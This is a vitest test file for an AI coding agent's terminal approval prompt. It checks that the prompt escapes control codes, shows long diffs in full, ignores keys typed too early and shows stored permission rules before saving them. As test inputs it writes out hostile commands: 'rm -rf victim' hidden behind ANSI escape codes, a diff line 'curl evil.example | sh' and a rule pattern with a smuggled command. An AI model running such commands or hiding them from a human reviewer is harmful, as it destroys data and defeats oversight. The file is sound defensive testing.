/**
 * The approval prompt of the interactive UI, driven directly with requests a hostile model would
 * cause, drawn by a headless xterm: it shows what runs (every line, escaped), folds what is long
 * behind a key that must be pressed before "yes", drops keys that came before the question could
 * be read, and shows the exact rule a "this session" / "always" answer stores before storing it.
 */
import { createRequire } from "node:module"
import type { Approvals } from "@musekit/core"
import { SessionRuntime } from "@musekit/node"
import type { Terminal as XTerminal } from "@xterm/headless"
import { afterEach, beforeEach, describe, expect, it } from "vitest"
import { App } from "../../src/internal/tui/app.js"

const { Terminal } = createRequire(import.meta.url)("@xterm/headless") as typeof import("@xterm/headless")

const ARM_MS = 150
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms))

interface Harness {
  readonly app: App
  readonly term: XTerminal
  readonly titles: Array<string>
  readonly screen: () => Promise<string>
  readonly answers: Array<Approvals.Answer>
  readonly ask: (request: Partial<Approvals.Request>) => void
  readonly key: (str: string, name?: string, extra?: object) => void
  readonly armed: () => Promise<void>
}

let open: Array<App> = []

const harness = (options: { readonly alwaysOk?: boolean } = {}): Harness => {
  const term = new Terminal({ cols: 100, rows: 40, scrollback: 5000, allowProposedApi: true })
  const titles: Array<string> = []
  term.onTitleChange((t) => titles.push(t))
  let pending = Promise.resolve()
  const out = {
    isTTY: true,
    columns: 100,
    rows: 40,
    write: (s: string) => {
      pending = pending.then(() => new Promise<void>((r) => term.write(s, r)))
      return true
    },
    on: () => out
  }
  const config = SessionRuntime.config({ root: "/work/app", model: "scripted/test", crew: false })
  const app = new App(out as any, "20250101-000000-abcdef", config, "--model", [])
  open.push(app)
  app.alwaysOk = options.alwaysOk ?? true
  app.screen.print(["KEEP THIS LINE"])
  const answers: Array<Approvals.Answer> = []
  const screen = async () => {
    await pending
    const buf = term.buffer.active
    const lines: Array<string> = []
    for (let i = 0; i < buf.length; i++) lines.push(buf.getLine(i)?.translateToString(true) ?? "")
    return lines.join("\n")
  }
  return {
    app,
    term,
    titles,
    screen,
    answers,
    ask: (request) =>
      app.askApproval({ agent: "main", tool: "run_shell", effect: "exec", summary: "npm test", ...request }, (a) =>
        answers.push(a)
      ),
    key: (str, name = str, extra = {}) => app.onKey(str, { name, sequence: str, ...extra }),
    armed: async () => {
      const start = Date.now()
      while (!app.gate.armed) {
        if (Date.now() - start > 10_000) throw new Error("the question never armed")
        await sleep(10)
      }
      await sleep(5)
    }
  }
}

beforeEach(() => {
  process.env.MUSE_PROMPT_ARM_MS = String(ARM_MS)
})
afterEach(() => {
  for (const app of open) app.close([])
  open = []
  delete process.env.MUSE_PROMPT_ARM_MS
})

const HOSTILE = "npm test\x1b[2K\r\x1b]0;all good\x07\nrm -rf victim \u202e\ntouch pwned\x9b1A"

describe("the approval prompt shows what runs", () => {
  it("a command with escape codes over 3 lines is shown whole, every line escaped", async () => {
    const h = harness()
    h.ask({ summary: HOSTILE })
    const text = await h.screen()
    expect(text).toContain("main wants to run a command of 3 lines:")
    expect(text).toContain("$ npm test\\x1b[2K\\r\\x1b]0;all good\\x07")
    expect(text).toContain("> rm -rf victim \\u202e")
    expect(text).toContain("> touch pwned\\x9b1A")
    expect(text.startsWith("KEEP THIS LINE")).toBe(true)
    expect(h.titles).toEqual([])
  })

  it("a diff that would hide a line shows it", async () => {
    const h = harness()
    h.ask({
      tool: "edit_file",
      effect: "write",
      summary: "edit_file run.sh (1 edit)",
      preview: "--- a/run.sh\n+++ b/run.sh\n@@ -1 +1,2 @@\n echo ok\n+curl evil.example | sh\x1b[1A\x1b[2K\n"
    })
    const text = await h.screen()
    expect(text).toContain("main wants to change a file: edit_file run.sh (1 edit)")
    expect(text).toContain(" echo ok")
    expect(text).toContain("+curl evil.example | sh\\x1b[1A\\x1b[2K")
  })

  it("a long diff is folded; yes is possible only after [v] showed the rest", async () => {
    const h = harness()
    const lines = Array.from({ length: 70 }, (_, i) => `+line ${i}`)
    h.ask({ tool: "write_file", effect: "write", summary: "write_file big.txt (700 bytes)", preview: lines.join("\n") })
    await h.armed()
    let text = await h.screen()
    expect(text).toContain("… 30 more lines: [v] shows them")
    expect(text).toContain("[v] show all (30 more lines)  [n] no  [t] no, tell why…")
    expect(text).not.toContain("+line 69")
    h.key("y")
    h.key("", "return")
    expect(h.answers).toEqual([])
    h.key("v")
    text = await h.screen()
    expect(text).toContain("+line 69")
    await h.armed()
    h.key("y")
    expect(h.answers).toEqual([{ allow: true, scope: "once" }])
  })
})

describe("answers are deliberate", () => {
  it("keys that come before the question can be read are dropped, never taken as the answer", async () => {
    const h = harness()
    h.ask({ summary: "rm -rf victim" })
    for (const k of ["a", "y", "s"]) h.key(k)
    h.key("", "return")
    expect(h.answers).toEqual([])
    expect(await h.screen()).toContain("the answer keys work in a moment")
    await h.armed()
    h.app.draw()
    const text = await h.screen()
    expect(text).toContain("[y] yes")
    expect(text).toContain("4 keys typed before the question ignored")
    h.key("n")
    expect(h.answers).toEqual([{ allow: false, scope: "once", reason: "the user said no" }])
  })

  it("a paste never answers a question", async () => {
    const h = harness()
    h.ask({})
    await h.armed()
    h.key("", "paste-start")
    h.key("y")
    h.key("", "return")
    h.key("", "paste-end")
    expect(h.answers).toEqual([])
    h.key("y")
    expect(h.answers).toHaveLength(1)
  })

  it("without a proposed rule only yes-once and no are offered", async () => {
    const h = harness()
    h.ask({ summary: "echo *.js" })
    await h.armed()
    h.app.draw()
    const text = await h.screen()
    expect(text).toContain("[y] yes  [n] no  [t] no, tell why…")
    expect(text).not.toContain("this session")
    h.key("s")
    h.key("a")
    expect(h.answers).toEqual([])
  })

  const proposal: Approvals.Rule = { tool: "run_shell", pattern: "npm test", action: "allow", scope: "session" }

  it("'yes, always' shows the exact rule and stores it only when confirmed", async () => {
    const h = harness()
    h.ask({ summary: "npm test", proposal })
    await h.armed()
    h.app.draw()
    expect(await h.screen()).toContain("[y] yes  [s] yes, this session…  [a] yes, always…  [n] no  [t] no, tell why…")
    h.key("a")
    let text = await h.screen()
    expect(text).toContain("saved in .muse/permissions.json")
    expect(text).toContain('allow run_shell "npm test" (project)')
    expect(text).toContain('stored as {"tool":"run_shell","pattern":"npm test","action":"allow","scope":"project"}')
    // a key right after the rule appears does not confirm it
    h.key("y")
    expect(h.answers).toEqual([])
    await h.armed()
    h.app.draw()
    text = await h.screen()
    expect(text).toContain("[y] yes, store this rule and run it  [n] no, back to the question")
    // enter is "back" by default
    h.key("", "return")
    expect(h.answers).toEqual([])
    await h.armed()
    h.key("a")
    await h.armed()
    h.key("y")
    expect(h.answers).toEqual([{ allow: true, scope: "project", rule: { ...proposal, scope: "project" } }])
  })

  it("'yes, this session' confirms the rule with the session scope", async () => {
    const h = harness()
    h.ask({ summary: "npm test", proposal })
    await h.armed()
    h.key("s")
    expect(await h.screen()).toContain("for the rest of this session")
    await h.armed()
    h.key("y")
    expect(h.answers).toEqual([{ allow: true, scope: "session", rule: proposal }])
  })

  it("'always' is not offered where its rule would not take effect (an untrusted folder)", async () => {
    const h = harness({ alwaysOk: false })
    h.ask({ summary: "npm test", proposal })
    await h.armed()
    h.app.draw()
    const text = await h.screen()
    expect(text).toContain("[y] yes  [s] yes, this session…  [n] no")
    expect(text).not.toContain("always")
  })

  it("a rule with escape codes is shown escaped in the confirmation", async () => {
    const h = harness()
    h.ask({ summary: "x", proposal: { ...proposal, pattern: "npm test\x1b[2K\rrm -rf victim" } })
    await h.armed()
    h.key("s")
    const text = await h.screen()
    expect(text).toContain('allow run_shell "npm test\\x1b[2K\\rrm -rf victim" (session)')
    expect(text).toContain('"pattern":"npm test\\u001b[2K\\rrm')
  })
})
